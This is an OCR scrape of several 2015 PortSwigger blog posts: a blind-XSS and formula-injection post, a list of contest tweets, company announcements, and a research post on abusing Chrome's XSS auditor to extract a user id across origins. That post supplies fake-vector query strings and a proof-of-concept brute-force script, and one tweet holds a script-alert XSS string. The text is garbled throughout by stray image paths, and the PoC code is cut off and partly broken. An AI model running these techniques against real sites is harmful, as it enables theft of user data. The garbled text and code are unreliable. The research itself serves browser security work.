After this point everything is executed as JavaScript, so it's just a matter of importing an externalJavaScript file, and grabbing a stack trace to help track down the issue afterwards:
Burp Suite will be using this payload as part of its active scanner within the next few months. If you're impatient, check out the Sleepy Puppy blind XSS framework recently released by Netflix.

Asynchronous Exploit Demo

The live demo showed an asynchronous Formula Injection vulnerability being used to exploit users of a fully patched analytics application:

The version of LibreOffice shown in the demo is missing a few security patches and thus vulnerable to CVE-2014-3524. The Microsoft Excel installation is fully patched.


Of the techniques discussed, Burp Suite currently uses all the XML attacks, the shell command injection attack, and the best SQL ones. Blind XSS checks are coming soon. We're excited to see if these techniques root out some vulnerabilities that havebeen allowed to stay hidden for too long. Hopefully this has also provided a solid a rationale for why it's worth deploying your own private Collaborator server if you'd prefer not to use PortSwigger's public one.

Enjoy - @albinowax

Monday, September 7, 2015

T-shirt competition winners

We've just mailed out prizes to the winners of our T-shirt competition.

Below are the 40 entries that won a Burp Suite T-shirt:
  • @0xdeadb - [...] callbacks.setExtensionName("I love Burp Suite because it can be extended for my specific needs"); [...]
  • @7MinSec - I love Burp Suite because I can tell clients "I'm gonna hit you with a cluster bomb & then a pitch fork!" and not get arrested.
  • @JGJones - I love Burp Suite because I can claim my baby daughter is an awesome hacker whenevershe burps. Pic: with nethacker
  • @JGamblin - I love Burp Suite because there is nothing like the CFO calling and asking "What is a Burp Suite is and why do we need 8 of them?"
  • @SelsRoger - I love Burp Suite because it allows for repeatable - help I'm being held hostage in an XSS factory- results.
  • @TryCatchHCF - I love Burp Suite because customizing Intruder attack types and positions show me the smoke that leads me to building the fire.
  • @Yabadabaduca - I love Burp Suite because it satisfies my needs better than my husband
  • @benholley - I love Burp Suite because @PortSwigger answers support emails personally. And quickly.
  • @blitzfranklyn - I love Burp Suite because mywife says it makes me look sexy!
  • @c0ncealed - I love Burp Suite because screenshots with: ? Credit Card Data / PII ? Site Secured by $vendor logo ? Burp Suite ...make a report!
  • @c1472b039f12485 - I love Burp Suite because I intercepted this tweet and made it something wittier
  • @crisp0r - I love Burp Suite because Peter Weiner grew up and stopped getting me into awkward conversations
  • @eficker - I love Burp Suite because no matter what horse manure (read obscure) encoding a site happens to use, it always proxy's up in plaintext. <3
  • @gsuberland - I love Burp Suite becauseSSBsb3ZlIEJ1cnAgU3VpdGUgYmVjYXVzZSBjbVZqZFhKemFXOXVJR2x6SUdaMWJnPT0=
  • @infosecabaret - I love Burp Suite because You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version f
  • @irsdl - I love Burp Suite because of the great minds behind it! because I loved WAHH ;) From WebAppSec lovers 4 WebAppSeclovers!!!
  • @itsec4u - I love Burp Suite because .. it's your Swiss Army knife in the dark realm of AppSec threats !
  • @j34n_d - I love Burp Suite because the repeater, repeater, repeater, repeater, repeater, repeater, repeater, repeater, is so easy to use.
  • @jakx_ - I love Burp Suite because Peter weiner for president! Cc @peterwintrsmith
  • @joshbozarth - I love Burp Suite because it’s better than Burp Sour.
  • @lnxdork - I love Burp Suite, it works with my selenium scripts to make security checking web app updates into a repeatableprocess!
  • @magnusstubman - I love Burp Suite because
  • @michaelsmyname - I love Burp Suite because bug bounties wouldn't be as fun without it.
  • @mikerod_sd - I love Burp Suite because I can simulate manual testing when I need to go to the doctors...... or recover from a hangover
  • @n0x00 - I love Burp Suite because the sound of whimpering dev's denied 'go live' gives me a semi :D? ... too ... too much ?
  • @n3tjunki3 - . I love Burp Suite because it's like a cheeky Nando's
  • @phillips321 - I love Burp Suite because without it I could not have an 'extended' lunch break, thanks @PortSwigger for the Simulate manual testing feature
  • @pjgmonteiro - I love Burp Suite because my favorite toy when I was younger were LEGO, now is the Burp Suite.
  • @pytharmani - I love Burp Suite because some developers be like "what?? How?? Even with HTTPS??"
  • @righettod - I love Burp Suite because it's like Nutella, once you have try it you cannot use another tool.
  • @schniggie - I love Burp Suite because it's the best web security tool you can get and buy by only pwning one bug. ROI is almost 0day :-)
  • @seanmeals - I love Burp Suite because it's helped me make a killing on bug bounties for a small investment of $300.
  •@sizzop - I love Burp Suite because "><script>alert('pwnd')</script>
  • @strawp - I love §Burp Suite§ §reasons§
  • @thedarkmint - I love Burp Suite because it's the mutant Swiss Army knife of web testing
  • @thegmoo - I love Burp Suite because it's possible to use Repeater to automate extreme participation in this contest
  • @tsmalmbe - I love Burp Suite because it swiggs my ports just right
  • @waptor75 - I love Burp Suite because it's my appsec Swiss Army chainsaw.
  • @ydoow - I love Burp Suite because the price seems even reasonable to tight arse northerners
  • @zebarg - I love Burp Suite because it made a vulgar word acceptable in professional conversations.

Friday,August 28, 2015

Burp Suite training courses

We're very pleased to announce an expanded list of Burp Suitetraining partners. Whether you are a Burp novice or an expert user, our training partners can offer you hands-on training to help you to get the most out of Burp Suite.

Our training partners offer courses at public events, and all courses can be presented privately on-site at your location.The new Burp Suite Training page includes details of the different courses that are available, and dates of forthcoming public events where these training courses will be happening. Over time, we'll be adding details of more training partners to provide an even wider range of course options.

Thursday, August 27, 2015

Gartner continues to recognize PortSwigger as a Challenger for Application Security Testing in 2015

On August 6 2015 Gartner released its annual Magic Quadrant for Application Security Testing, with PortSwigger Web Security placed as a Challenger* for the second year, based on its ability to execute and completeness of vision.

In this latest report, analysts Joseph Feiman and Neil MacDonald state that “highly publicized breaches in the last 12 months have raised awareness of the need to identify and remediate vulnerabilities at the application layer”. In addition, that“attackers have increased the sophistication and frequency of their attacks, motivated financially by the theft of monetary assets, intellectual property and sensitive information”.

At PortSwigger we have always believed in pushing the boundaries of web security testing, and we continue to invest heavily in our research and development capabilities to help our users to respond to the rapidly evolving threats they face.

Dafydd Stuttard, founder of PortSwigger Web Security commented:

“Our accelerated investment and ambitious roadmap over the last 12 months have resulted in developments that have fundamentally improved the web scanning functionality that is available to our users.“We released Burp Collaborator in April of this year, which has the potential to revolutionize web security testing. Over time, Burp Collaborator will enable Burp to detect issues like blind XSS, asynchronous code injection, and various as-yet-unclassified vulnerabilities. In the coming months, we will be adding many exciting new capabilities to Burp, based on the Collaborator technology.

“We have also pioneered research into two completely new types of vulnerability. Over the past 12 months we have released scan checks to find both server-side template injection and PRSSI (path-relative style sheet imports). Burp was the first scanner to detect these two serious vulnerabilities.”

Stuttard goes onto say that he is excited about the next 12 months at PortSwigger. “As one of the most widely adopted web security tools in the marketplace, we have a very large and loyal user community, which we will continue to listen to. That, coupled with our ability to remain agile as a company, allows us to respond rapidly to market developments. We are expecting to release many new exciting features in the coming months.”
*Gartner define Challengers in this magic quadrant as “vendors that have executed consistently, typically by focusing on a single technology (for example, SAST or DAST) or a single delivery model (for example, on AST as a service only). In addition, they have demonstrated substantial competitive capabilities against the Leaders in this particular focus area, and also have demonstrated momentum in their customer base in terms of overall size and growth.”

PortSwigger Web Security is a global leader in the creation of software tools for security testing of web applications. For nearly a decade, we have worked at the cutting edge of the web security industry, andour suite of tools is well established as the de facto standard toolkit used by web security professionals.

Gartner disclaimer: Gartner does not endorse any vendor, product or service depicted in its research publications, and does not advise technology users to select only those vendors with the highest ratings or other designation . Gartner research publications consist of the opinions of Gartner’s research organization and should not be construed as statements of fact. Gartner disclaims all warranties, expressed or implied, with respect to this research, including any warranties of merchantability or fitness for a particular purpose.

Wednesday, August 26, 2015

New release cycle for Burp Suite Free Edition

For a long time, we've released updates to Burp Suite Free Edition every year or so, when Burp gets a new major version number. The Professional Edition is updated much more frequently, often a few times per month.

We've decided to change the Free Edition release cycle, for two reasons:
  • From time to time, we apply fixes within Burp to accommodate changes in modern browsers, cryptographic standards, or other developments. It's not good for the Free Edition to lag behind on these kind of updates.
  • We work continuously on incremental enhancements to Burp, and it is sometimes artificial to pick a particular update out as being a "major" release. We don't want to be incrementing our major version number solely because we're overdue an update of the Free Edition.
Starting today, we will release updates to the Free Edition of Burp much more frequently. Every few versions of the Professional Edition will be accompanied by an update to the Free Edition. Since the majority of updates to the Professional Edition only change features within that edition, such as Burp Scanner, it isn't necessary to update the FreeEdition every time. But we will do so periodically whenever changes have been made that apply to both editions.

Of course, the Free Edition of Burp will always continue to remain free of charge, and the frequent updates we make to the Professional Edition will still be made available to licensed users without any additional charge.

Monday, August 17, 2015

Abusing Chrome's XSS auditor to steal tokens

Detecting XSS Auditor

James pointed out to me that XSS auditor in Chrome has a block mode and I thought it might be interesting to see if this could be exploited in some way. When the http header is set "X-XSS-Protection: 1; mode=block" XSS auditor removes all content on the page when a XSS attack is detected. I thought could use this to my advantage because if the target site contained an iframe then I could use the length property of the window to detect if the iframe was destroyed. In all modern browsers you can use contentWindow.length across domains. As the following code demonstrates.
<iframe onload="alert(this.contentWindow.length)" src="http://somedomain/with_iframe"></iframe>
So if the site has an iframe you will see an alert box with 1 and if not an alert of 0. If there is more than one iframe then it will alert the amount of iframes on the site. Basically this gives us a true or false condition to detect XSS auditor.

Getting a user id

My first thoughts on how to exploit this was to read a user idfrom in-line script. By injecting fake XSS vectors and monitoring the length property tosee if the XSS auditor was active. Injecting a series of fake vectors incrementing the user id each time to detect the correct value. The output of the target page would look like this:
header("X-XSS-Protection: 1; mode=block");



uid = 1337;

As you can see we put the XSS filter in block mode, the page contains an iframe and the script block contains a user id. Here's what the fake vectors look like:
?fakevector=<script>%0auid = 1;%0a
?fakevector=<script>%0auid = 2;%0a
?fakevector=<script>%0auid = 3;%0a
?fakevector=<script>%0auid = 4;%0a
XSS auditor ignores the closing script but the ending new line is required in order to detect XSS. Here is a simple PoC to extract the uid:
 var url = 'http://somedomain/chrome_xss_filter_bruteforce/test.php?x=<script>%0auid = %s;%0a<\/script>',
  amount = 9999, maxNumOfIframes = 1;
 for(var i=0;i<maxNumOfIframes;i++) {
 function createIframe(min, max) {
  var iframe = document.createElement('iframe'), div, p = document.createElement('p');
  iframe.title = min;
  iframe.onload = function() {
    p.innerText = 'uid='+this.title;
    return false;
   if(this.title > max) {
   } else {
    this.contentWindow.location = url.replace(/%s/,++this.title)+'&'+(+new Date);
